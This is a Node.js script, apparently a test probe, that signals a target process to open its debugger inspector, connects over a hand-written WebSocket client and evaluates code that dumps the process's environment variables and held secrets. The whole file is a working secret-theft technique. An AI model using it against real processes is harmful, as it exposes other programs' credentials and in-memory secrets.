// node --input-type=module -e THIS PID PORT MARKER LIMIT: sends SIGUSR1, at which Node opens its inspector, and reads
// the program's secrets there. PID 0: sends no signal. It has a WebSocket client (RFC 6455) of its own, because Node 20 has none. It tries for
// LIMIT milliseconds.
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { get } from 'node:http';
import { createConnection } from 'node:net';
import { text } from 'node:stream/consumers';
import { setTimeout } from 'node:timers/promises';

const [pid, port, marker, limit] = process.argv.slice(1);
const EXPRESSION = "JSON.stringify([process.env, held.string, held.buffer.toString('latin1')])";

/** The path of the target's WebSocket, or the error's code. */
async function debuggerPath() {
  try {
    const [answer] = await once(get({ host: '127.0.0.1', port, path: '/json', agent: false }), 'response');
    return { path: new URL(JSON.parse(await text(answer))[0].webSocketDebuggerUrl).pathname };
  } catch (error) {
    return { code: error.code ?? String(error) };
  }
}

/** One masked text frame, of up to 65535 bytes. */
function frame(payload) {
  const mask = randomBytes(4);
  const length = Buffer.alloc(4);
  length.writeUInt16BE(0x81fe);
  length.writeUInt16BE(payload.length, 2);
  return Buffer.concat([length, mask, payload.map((byte, i) => byte ^ mask[i % 4])]);
}

async function evaluate(path) {
  const socket = createConnection(port, '127.0.0.1');
  await once(socket, 'connect');
  const key = randomBytes(16).toString('base64');
  socket.write(
    `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  await once(socket, 'data');
  const call = { id: 1, method: 'Runtime.evaluate', params: { expression: EXPRESSION } };
  socket.write(frame(Buffer.from(JSON.stringify(call))));
  let heard = '';
  for await (const chunk of socket) {
    heard += chunk.toString('latin1');
    if (/"id":1,.*\}\}\}?$/s.test(heard)) break;
  }
  return heard;
}

try {
  if (pid !== '0') process.kill(Number(pid), 'SIGUSR1');
} catch (error) {
  console.log(`refused kill ${-error.errno}`);
  process.exit();
}
const end = Date.now() + Number(limit);
let found;
do {
  found = await debuggerPath();
  if (found.path === undefined) await setTimeout(20);
} while (found.path === undefined && Date.now() < end);
if (found.path === undefined) console.log(`no inspector: ${found.code}`);
else {
  const heard = await evaluate(found.path);
  for (const [, hex] of heard.matchAll(new RegExp(`${marker}([0-9a-f]{32})`, 'g'))) console.log(`got ${hex}`);
}
process.exit();
